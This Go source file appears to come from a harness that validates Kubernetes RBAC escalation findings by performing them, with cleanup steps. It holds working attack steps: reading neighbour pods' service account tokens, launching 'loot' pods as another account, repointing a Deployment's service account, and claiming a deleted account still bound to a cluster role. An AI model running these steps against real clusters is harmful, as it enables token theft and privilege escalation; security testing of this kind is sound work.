package walk

import (
	"context"
	"errors"
	"fmt"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// readNeighbors reads, on the node, what the kubelet mounts into other pods. No
// request does that.
func readNeighbors(ctx context.Context, a attempt) error {
	who, err := a.target()
	if err != nil {
		return err
	}
	pods, err := a.pods(ctx)
	if err != nil {
		return err
	}
	for i := range pods {
		if p := &pods[i]; p.Spec.NodeName == a.at && p.Namespace == who.namespace && p.Spec.ServiceAccountName == who.name {
			return a.take(ctx, p)
		}
	}
	return fmt.Errorf("%s is not on node %s", a.hop.To, a.at)
}

// startPod has a pod run as the account: a new one, or those of a Deployment.
func startPod(ctx context.Context, a attempt) error {
	who, err := a.target()
	if err != nil {
		return err
	}
	if a.finding.allows("apps/deployments", "update") {
		return a.redeploy(ctx, who)
	}
	return a.runAs(ctx, who)
}

// runAs starts a pod as an account.
func (a attempt) runAs(ctx context.Context, who account) error {
	client, err := a.client()
	if err != nil {
		return err
	}
	loot := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "loot-", Namespace: who.namespace},
		Spec: corev1.PodSpec{
			ServiceAccountName: who.name, NodeName: a.at,
			Containers: []corev1.Container{{Name: "main", Image: evilImage}},
		},
	}
	made, err := client.CoreV1().Pods(who.namespace).Create(ctx, loot, metav1.CreateOptions{})
	if err != nil {
		return fmt.Errorf("create pod: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error { return a.remove(ctx, made) })
	return a.take(ctx, made)
}

// redeploy gives a Deployment another account.
func (a attempt) redeploy(ctx context.Context, who account) error {
	client, err := a.client()
	if err != nil {
		return err
	}
	list, err := client.AppsV1().Deployments(who.namespace).List(ctx, metav1.ListOptions{})
	if err != nil || len(list.Items) == 0 {
		return errors.Join(errors.New("no deployment to change"), err)
	}
	changed := list.Items[0]
	before := changed.DeepCopy()
	changed.ResourceVersion = "" // its controller writes it, too
	changed.Spec.Template.Spec.ServiceAccountName = who.name
	changed.Spec.Template.Spec.DeprecatedServiceAccount = who.name
	if _, err := client.AppsV1().Deployments(who.namespace).Update(ctx, &changed, metav1.UpdateOptions{}); err != nil {
		return fmt.Errorf("update deployment: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error { return a.restore(ctx, before) })
	return a.takeOne(ctx, who, "")
}

func (w *world) restore(ctx context.Context, before *appsv1.Deployment) error {
	before.ResourceVersion = ""
	_, err := w.admin.AppsV1().Deployments(before.Namespace).Update(ctx, before, metav1.UpdateOptions{})
	return err
}

// takeOne waits for a pod that runs as an account, on a node if one is named,
// and takes its token.
func (a attempt) takeOne(ctx context.Context, who account, node string) error {
	var found *corev1.Pod
	err := soon(ctx, "a pod runs as "+who.user(), func(ctx context.Context) (bool, error) {
		pods, err := a.pods(ctx)
		for i := range pods {
			p := &pods[i]
			if p.Namespace == who.namespace && p.Spec.ServiceAccountName == who.name && p.Spec.NodeName != "" && (node == "" || p.Spec.NodeName == node) {
				found = p
			}
		}
		return found != nil, err
	})
	if err != nil {
		return err
	}
	return a.take(ctx, found)
}

// claimAccount makes the account that a binding names though it is gone, and
// runs as it.
func claimAccount(ctx context.Context, a attempt) error {
	who, err := a.missing(ctx)
	if err != nil {
		return err
	}
	client, err := a.client()
	if err != nil {
		return err
	}
	made := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: who.namespace, Name: who.name}}
	if _, err := client.CoreV1().ServiceAccounts(who.namespace).Create(ctx, made, metav1.CreateOptions{}); err != nil {
		return fmt.Errorf("create service account: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error {
		return a.admin.CoreV1().ServiceAccounts(who.namespace).Delete(ctx, who.name, metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)})
	})
	if err := a.runAs(ctx, who); err != nil {
		return err
	}
	return a.everything(ctx, tokenOf(who))
}

// missing is the account that a binding names and that does not exist.
func (w *world) missing(ctx context.Context) (account, error) {
	bindings, err := w.admin.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
	if err != nil {
		return account{}, fmt.Errorf("list bindings: %w", err)
	}
	accounts, err := w.admin.CoreV1().ServiceAccounts("").List(ctx, metav1.ListOptions{})
	if err != nil {
		return account{}, fmt.Errorf("list service accounts: %w", err)
	}
	there := map[account]bool{}
	for _, a := range accounts.Items {
		there[account{a.Namespace, a.Name}] = true
	}
	for _, b := range bindings.Items {
		for _, s := range b.Subjects {
			if who := (account{s.Namespace, s.Name}); s.Kind == "ServiceAccount" && s.Namespace != "kube-system" && !there[who] {
				return who, nil
			}
		}
	}
	return account{}, errors.New("no binding names an account that is gone")
}
